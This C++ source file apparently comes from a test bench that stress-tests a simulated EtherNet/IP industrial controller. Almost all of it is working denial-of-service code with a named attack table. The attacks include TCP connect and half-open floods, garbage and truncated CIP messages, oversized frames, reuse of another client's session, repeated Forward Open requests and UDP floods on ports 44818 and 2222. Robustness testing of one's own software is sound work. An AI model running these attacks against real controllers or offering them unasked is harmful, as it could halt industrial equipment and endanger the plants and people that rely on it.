#include "tests/bench/ethernet_ip/attacks.hpp"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>

#include <array>
#include <cerrno>
#include <deque>
#include <stdexcept>
#include <string_view>

#include "sim/base/random.hpp"
#include "sim/transports/unique_fd.hpp"

namespace vinv::bench {
namespace {

using transports::UniqueFd;
using Octets = std::vector<std::uint8_t>;

sockaddr_in address_of(std::uint32_t host, std::uint16_t port) {
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(host);
  a.sin_port = htons(port);
  return a;
}

void put(Octets& out, unsigned bytes, std::uint32_t value) {
  for (unsigned i = 0; i < bytes; ++i) out.push_back(static_cast<std::uint8_t>(value >> (8 * i)));
}

Octets encapsulated(unsigned command, unsigned length, std::uint32_t session, const Octets& data = {}) {
  Octets out;
  put(out, 2, command);
  put(out, 2, length);
  put(out, 4, session);
  out.resize(24, 0);
  out.insert(out.end(), data.begin(), data.end());
  return out;
}

// A connected socket, or one that is not open.
UniqueFd dial(const Victim& v) {
  UniqueFd fd(::socket(AF_INET, SOCK_STREAM, 0));
  const sockaddr_in to = address_of(v.host, v.port);
  const timeval patience{2, 0};
  ::setsockopt(fd.get(), SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  ::setsockopt(fd.get(), SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
  if (::connect(fd.get(), reinterpret_cast<const sockaddr*>(&to), sizeof to) != 0) fd.reset();
  return fd;
}

bool send_all(const UniqueFd& fd, const Octets& bytes) {
  return ::send(fd.get(), bytes.data(), bytes.size(), MSG_NOSIGNAL) == static_cast<ssize_t>(bytes.size());
}

std::uint32_t register_session(const UniqueFd& fd) {
  std::array<std::uint8_t, 28> answer{};
  if (!send_all(fd, encapsulated(0x65, 4, 0, {1, 0, 0, 0}))) return 0;
  if (::recv(fd.get(), answer.data(), answer.size(), MSG_WAITALL) != static_cast<ssize_t>(answer.size())) return 0;
  return answer[4] | std::uint32_t{answer[5]} << 8 | std::uint32_t{answer[6]} << 16 | std::uint32_t{answer[7]} << 24;
}

Octets unconnected(std::uint32_t session, const Octets& message) {
  Octets data;
  put(data, 4, 0);
  put(data, 2, 0);
  put(data, 2, 2);
  put(data, 4, 0);
  put(data, 2, 0xb2);
  put(data, 2, static_cast<std::uint32_t>(message.size()));
  data.insert(data.end(), message.begin(), message.end());
  return encapsulated(0x6f, static_cast<unsigned>(data.size()), session, data);
}

Octets forward_open(std::uint32_t number, std::uint8_t heartbeat) {
  Octets m = {0x54, 2, 0x20, 6, 0x24, 1, 7, 0xe9};
  put(m, 4, 0);
  put(m, 4, number);
  put(m, 2, number & 0xffff);
  put(m, 2, 0x1234);
  put(m, 4, number);  // another originator each time
  put(m, 4, 7);
  put(m, 4, 1'000'000);
  put(m, 2, 0x4802);
  put(m, 4, 1'000'000);
  put(m, 2, 0x4806);
  m.push_back(0x01);
  const Octets path = {0x20, 4, 0x2c, heartbeat, 0x2c, 71};
  m.push_back(static_cast<std::uint8_t>(path.size() / 2));
  m.insert(m.end(), path.begin(), path.end());
  return m;
}

// Reads and forgets what has come; false if the connection has ended.
bool discard(const UniqueFd& fd) {
  std::array<std::uint8_t, 4096> buffer{};
  for (;;) {
    const ssize_t n = ::recv(fd.get(), buffer.data(), buffer.size(), MSG_DONTWAIT);
    if (n > 0) continue;
    return n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK);
  }
}

void flood_udp(const Victim& v, std::uint16_t port, const Octets& datagram, bool random,
               std::atomic<std::uint64_t>& count) {
  const UniqueFd fd(::socket(AF_INET, SOCK_DGRAM, 0));
  const sockaddr_in to = address_of(v.host, port);
  Random numbers(1);
  Octets bytes = datagram;
  for (;; ++count) {
    if (random)
      for (auto& b : bytes) b = static_cast<std::uint8_t>(numbers.next());
    ::sendto(fd.get(), bytes.data(), bytes.size(), 0, reinterpret_cast<const sockaddr*>(&to), sizeof to);
  }
}

// Connects as fast as it can and leaves again.
void connect_flood(const Victim& v, std::atomic<std::uint64_t>& count) {
  for (;; ++count) dial(v);
}

// Holds thousands that never say a word.
void half_open(const Victim& v, std::atomic<std::uint64_t>& count) {
  constexpr std::size_t kHeld = 4000;
  std::deque<UniqueFd> held;
  for (;; ++count) {
    held.push_back(dial(v));
    if (held.size() > kHeld) held.pop_front();
  }
}

// One that says the same again and again, and reads or does not.
void repeat(const Victim& v, const Octets& bytes, bool reads, std::atomic<std::uint64_t>& count) {
  for (;;) {
    const UniqueFd fd = dial(v);
    register_session(fd);
    while (send_all(fd, bytes)) {
      ++count;
      if (reads && !discard(fd)) break;
    }
  }
}

void garbage(const Victim& v, std::atomic<std::uint64_t>& count) {
  Random numbers(2);
  for (;;) {
    const UniqueFd fd = dial(v);
    Octets bytes(1400);
    for (int i = 0; i < 50; ++i, ++count) {
      for (auto& b : bytes) b = static_cast<std::uint8_t>(numbers.next());
      if (!send_all(fd, bytes) || !discard(fd)) break;
    }
  }
}

void stolen_sessions(const Victim& v, std::atomic<std::uint64_t>& count) {
  const UniqueFd owner = dial(v);
  const std::uint32_t session = register_session(owner);
  for (;;) {
    const UniqueFd fd = dial(v);
    register_session(fd);
    const Octets request = unconnected(session, {0x0e, 3, 0x20, 1, 0x24, 1, 0x30, 1});
    while (send_all(fd, request) && discard(fd)) ++count;
  }
}

void forward_opens(const Victim& v, std::atomic<std::uint64_t>& count) {
  for (std::uint32_t number = 1;;) {
    const UniqueFd fd = dial(v);
    const std::uint32_t session = register_session(fd);
    while (send_all(fd, unconnected(session, forward_open(number, v.input_only_point)))) {
      ++number;
      ++count;
      std::array<std::uint8_t, 512> answer{};
      if (::recv(fd.get(), answer.data(), answer.size(), 0) <= 0) break;
    }
  }
}

// A message of which every byte comes alone, and never the last.
void truncated(const Victim& v, std::atomic<std::uint64_t>& count) {
  for (;; ++count) {
    const UniqueFd fd = dial(v);
    const std::uint32_t session = register_session(fd);
    Octets message = unconnected(session, {0x0e, 3, 0x20, 1, 0x24, 1, 0x30, 1});
    message.pop_back();
    for (const std::uint8_t byte : message)
      if (!send_all(fd, {byte})) break;
  }
}

struct Attack {
  std::string_view name;
  void (*run)(const Victim&, std::atomic<std::uint64_t>&);
};

constexpr Attack kAttacks[] = {
    {"connects", connect_flood},
    {"half-open", half_open},
    {"garbage", garbage},
    {"truncated", truncated},
    {"oversized",
     [](const Victim& v, std::atomic<std::uint64_t>& count) {
       repeat(v, encapsulated(0x6f, 0xffff, 1, Octets(0xffff, 0xaa)), true, count);
     }},
    {"stolen-sessions", stolen_sessions},
    {"never-reading",
     [](const Victim& v, std::atomic<std::uint64_t>& count) { repeat(v, encapsulated(0x63, 0, 0), false, count); }},
    {"requests",
     [](const Victim& v, std::atomic<std::uint64_t>& count) { repeat(v, encapsulated(0x63, 0, 0), true, count); }},
    {"forward-opens", forward_opens},
    {"udp-44818",
     [](const Victim& v, std::atomic<std::uint64_t>& count) {
       flood_udp(v, v.port, encapsulated(0x63, 0, 0), false, count);
     }},
    {"udp-2222",
     [](const Victim& v, std::atomic<std::uint64_t>& count) {
       Octets packet = {2, 0, 2, 0x80, 8, 0};
       packet.resize(26, 0);
       packet[14] = 0xb1;
       packet[16] = 8;
       flood_udp(v, v.io_port, packet, false, count);
     }},
    {"udp-garbage",
     [](const Victim& v, std::atomic<std::uint64_t>& count) { flood_udp(v, v.io_port, Octets(64), true, count); }},
};

}  // namespace

std::vector<std::string> attack_names() {
  std::vector<std::string> names;
  for (const Attack& a : kAttacks) names.emplace_back(a.name);
  return names;
}

void attack(const std::string& name, const Victim& victim, std::atomic<std::uint64_t>& count) {
  for (const Attack& a : kAttacks)
    if (a.name == name) return a.run(victim, count);
  throw std::runtime_error(name + " is no attack");
}

}  // namespace vinv::bench
